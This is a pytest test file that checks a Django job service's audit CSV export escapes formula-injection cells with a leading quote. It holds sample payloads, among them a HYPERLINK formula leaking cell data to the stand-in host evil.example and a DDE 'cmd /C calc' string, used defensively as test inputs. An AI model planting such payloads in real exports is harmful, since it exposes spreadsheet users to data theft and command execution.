"""The audit CSV export neutralises formulas (OWASP CSV injection): a cell starting with = + - @ TAB or CR
gets a leading single quote, so a spreadsheet shows it as text instead of running it."""

import csv
import io

import pytest

from .helpers import create_job, take

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_hostile_works_and_worker_names_are_written_as_text(worker_client, viewer_client):
    job = create_job(worker_client, "csv-formulas", works=[*HOSTILE, "/plain"], shuffle=False)
    leases = take(worker_client, job["id"], worker="=cmd|' /C calc'!A0", count=len(HOSTILE) + 1)["leases"]
    take(
        worker_client,
        job["id"],
        worker="=cmd|' /C calc'!A0",
        complete=[{"id": x["id"], "token": x["token"]} for x in leases],
    )
    response = viewer_client.get(f"/api/v1/jobs/{job['id']}/items/?format=csv")
    assert response.status_code == 200
    table = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    items = {row["item"] for row in table}
    # Works are stripped when a job is made: "\t=1" and "\r=1" are the work "=1".
    assert items == {"'" + w.strip() for w in HOSTILE} | {"/plain"}
    assert {row["worker"] for row in table} == {"'=cmd|' /C calc'!A0"}
    for row in table:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # Numbers and dates are untouched.
    assert all(row["attempts"] == "1" for row in table)
